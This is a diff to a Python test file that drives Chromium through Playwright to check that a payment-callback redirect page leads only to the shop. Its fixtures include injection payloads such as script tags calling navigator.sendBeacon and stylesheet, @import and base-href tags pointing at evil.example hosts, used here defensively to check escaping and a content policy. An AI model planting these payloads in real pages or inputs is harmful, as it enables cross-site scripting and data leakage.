@@ -1,26 +1,27 @@
-"""The page in a real browser: whatever a notification, a payment record or an order holds, it leads to the shop."""
+"""The page in a real browser: whatever an order's id or return URL holds, it leads to the shop and nowhere else."""
 
-import json
 from collections.abc import Iterator
-from dataclasses import dataclass, replace
-from pathlib import Path
+from dataclasses import dataclass, field
 from typing import Any
-from urllib.parse import parse_qsl, quote, urlencode
+from urllib.parse import quote
 
 import pytest
+from playwright.sync_api import Page, Route, sync_playwright
 
-from callback.errors import InvalidNotification
-from callback.schema import is_id
-from callback.text import BLANKS
-from tests.support.aws import CHARGE, ORDER, World, sample
-from tests.support.browser import TLS, Page, walk
+from callback.redirect import redirect
+from callback.settings import read_settings
+from tests.support.aws import ORDER, PARAMETERS
 from tests.support.programs import program
+from tests.support.template import resolved
 
 # Measuring doubles the time, and what this goes through is measured elsewhere.
 pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]
 
-SHOP = "http://shop.example"  # by http: the recorder holds no certificate
+OURS, SHOP = "http://callback.example/", "http://shop.example"
 HOME = f"shop.example/orders/{ORDER}"
+_ENVIRONMENT = resolved(**PARAMETERS)["RecheckFunction"]["Properties"]["Environment"]["Variables"]
+_ORIGINS = {"REDIRECT_URL_TEMPLATE": f"{SHOP}/orders/{{orderId}}", "REDIRECT_ALLOWED_ORIGINS": SHOP}
+SETTINGS = read_settings(_ENVIRONMENT | _ORIGINS)
 CALL = "navigator.sendBeacon('//evil.example')"
 SCRIPTS = [
     f"<script>{CALL}</script>",
@@ -89,104 +90,63 @@ BAD_PAGES = {
     "sheet": "<link rel=stylesheet href=//sheet.evil.example>" + REFRESH,
     "style": "<style>@import '//style.evil.example';</style>" + REFRESH,
     "base": "<base href=//base.evil.example><img src=/>" + REFRESH,
-    "refresh": '<meta http-equiv="refresh" content="0;url=http://refresh.evil.example">',
 }
 
 
-@dataclass(frozen=True)
-class Case:
-    """A page, and how the one request begins that it is to make."""
+@dataclass
+class Visitor:
+    """A browser that reaches nobody: each request is answered here, and noted."""
 
     page: Page
-    leads_to: str
+    body: str = ""
+    headers: dict[str, str] = field(default_factory=dict)
+    asked: list[str] = field(default_factory=list)
 
-    def held(self, asked: list[str]) -> bool:
-        """Whether the page led there and did nothing else."""
-        return len(asked) == 1 and asked[0].startswith(self.leads_to)
+    def visit(self, body: object, headers: Any) -> list[str]:
+        """Open our page, follow where it leads, and return what was asked for, as `host/path`."""
+        self.body, self.headers = str(body), headers
+        self.asked.clear()
+        with self.page.expect_navigation(url=lambda url: url != OURS, wait_until="load"):
+            self.page.goto(OURS, wait_until="commit")
+        return list(self.asked)
+
+    def answer(self, route: Route) -> None:
+        """Serve our page; whoever else is asked for a document gives an empty one."""
+        request = route.request
+        if request.url == OURS:
+            route.fulfill(body=self.body, headers=self.headers)
+            return
+        self.asked.append(request.url.partition("://")[2])
+        if request.is_navigation_request():
+            route.fulfill(body="", content_type="text/html")
+        else:
+            route.abort()
 
 
 @pytest.fixture(scope="module")
-def browser() -> str:
-    """Chromium, by one of its names."""
-    return program("chromium", "chromium-browser", "google-chrome", package="chromium")
+def visitor() -> Iterator[Visitor]:
+    """One browser for all pages."""
+    found = program("chromium", "chromium-browser", "google-chrome", package="chromium")
+    with sync_playwright() as playwright, playwright.chromium.launch(executable_path=found) as browser:
+        visitor = Visitor(browser.new_page())
+        visitor.page.route("**/*", visitor.answer)
+        yield visitor
 
 
-@pytest.fixture
-def shop(world: World) -> World:
-    """A world whose shop the recorder can play."""
-    world.cold_start(REDIRECT_URL_TEMPLATE=f"{SHOP}/orders/{{orderId}}", REDIRECT_ALLOWED_ORIGINS=SHOP)
-    return world
+@pytest.mark.parametrize("payload", SCRIPTS + PLACES + TAILS, ids=ascii)
+def test_no_text_runs_a_script_or_leads_away(visitor: Visitor, payload: str) -> None:
+    """In a return URL, or as an order id, it makes one request, the shop's; what holds scripts also without a policy."""
+    url, leads_to = (f"{SHOP}{payload}", HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.example/")
+    pages = [(redirect(ORDER, url, SETTINGS), leads_to)]
+    if payload in SCRIPTS:
+        pages.append((redirect(payload, None, SETTINGS), f"shop.example/orders/{quote(payload, safe='')}"))
+    for page, expected in pages:
+        [asked] = visitor.visit(page["body"], PLAIN if payload in SCRIPTS else page["headers"])
+        assert asked.startswith(expected)
 
 
-def test_no_field_runs_a_script_or_leads_away(shop: World, browser: str, tmp_path: Path) -> None:
-    """Each page makes one request, the one for the shop's page; what holds scripts does also in want of a policy."""
-    scripts = [case for payload in SCRIPTS for case in _cases(shop, payload)]
-    cases = [case for payload in PLACES + TAILS for case in _cases(shop, payload)]
-    cases += scripts + [Case(replace(case.page, headers=PLAIN), case.leads_to) for case in scripts]
-    asked = walk(browser, [case.page for case in cases], tmp_path)
-    wrong = {case.page.name: found for case, found in zip(cases, asked, strict=False) if not case.held(found)}
-    assert wrong == {}
-    assert len(asked) == len(cases)
-
-
-def test_recorder_sees_what_a_bad_page_does(browser: str, tmp_path: Path) -> None:
-    """The tests here can fail: each of these pages, none of ours, is caught asking a stranger."""
-    asked = walk(browser, [Page(name, body, PLAIN) for name, body in BAD_PAGES.items()], tmp_path)
-    strangers = {request for requests in asked for request in requests} - {HOME}
-    assert strangers == {f"{name}.evil.example/" for name in BAD_PAGES} - {"tls.evil.example/"} | {TLS}
-    assert len(asked) == len(BAD_PAGES)
-
-
-def test_policy_stops_what_would_get_in(shop: World, browser: str, tmp_path: Path) -> None:
-    """Were markup to get into the page after all, the page's headers alone would keep it from doing anything."""
-    headers = shop.deliver()["headers"]
-    pages = [Page(name, body, headers) for name, body in BAD_PAGES.items() if REFRESH in body]
-    assert walk(browser, pages, tmp_path) == [[HOME]] * len(pages)
-
-
-def _cases(shop: World, payload: str) -> Iterator[Case]:
-    """Every way of a payload to a page. All other fields of the notification hold it each time, too."""
-    shop.pay(orderId=payload)
-    shop.order(orderId=payload, returnUrl=payload)
-    ids = {"reference_order": payload, "id": payload}
-    ways = {"form": (_form(payload), payload), "ids": (_notification(payload, payload, **ids), payload.strip(BLANKS))}
-    for way, (event, order_id) in ways.items():
-        if is_id(order_id):
-            leads_to = f"shop.example/orders/{quote(order_id, safe='')}"
-            yield _case(way, payload, shop.deliver(event), leads_to)
-        else:
-            with pytest.raises(InvalidNotification):
-                shop.deliver(event)
-    url, leads_to = (SHOP + payload, HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.example/")
-    shop.pay()
-    shop.order(returnUrl=url)
-    yield _case("returnUrl", payload, shop.deliver(_notification(payload, f"returnUrl {quote(payload)}")), leads_to)
-
-
-def _case(way: str, payload: str, response: dict[str, Any], leads_to: str) -> Case:
-    return Case(Page(f"{way}: {payload!r}", response["body"], response["headers"]), leads_to)
-
-
-def _notification(payload: str, request_id: str, **ids: str) -> dict[str, Any]:
-    event = sample("authorized")
-    body = _spoilt(json.loads(event["body"]), payload) | {"object": "charge", "id": CHARGE, "reference_order": ORDER}
-    event = {**_spoilt(event, payload), "body": json.dumps(body | ids)}
-    event["requestContext"]["requestId"] = request_id
-    return event
-
-
-def _form(payload: str) -> dict[str, Any]:
-    event = sample("browser-return")
-    body = _spoilt(dict(parse_qsl(event["body"], keep_blank_values=True)), payload) | {"objectId": CHARGE}
-    event = {**_spoilt(event, payload), "headers": event["headers"], "body": urlencode(body)}
-    event["requestContext"]["requestId"] = f"form {quote(payload)}"
-    return event
-
-
-def _spoilt(value: Any, payload: str) -> Any:
-    """The same shape with the payload for every text and every null."""
-    if isinstance(value, dict):
-        return {name: _spoilt(inner, payload) for name, inner in value.items()}
-    if isinstance(value, list):
-        return [_spoilt(inner, payload) for inner in value]
-    return payload if value is None or isinstance(value, str) else value
+@pytest.mark.parametrize("name", BAD_PAGES)
+def test_policy_stops_what_would_get_in(visitor: Visitor, name: str) -> None:
+    """Without the policy a bad page is seen to ask a stranger; with it, it does nothing but lead to the shop."""
+    assert f"{name}.evil.example/" in visitor.visit(BAD_PAGES[name], PLAIN)
+    assert visitor.visit(BAD_PAGES[name], redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
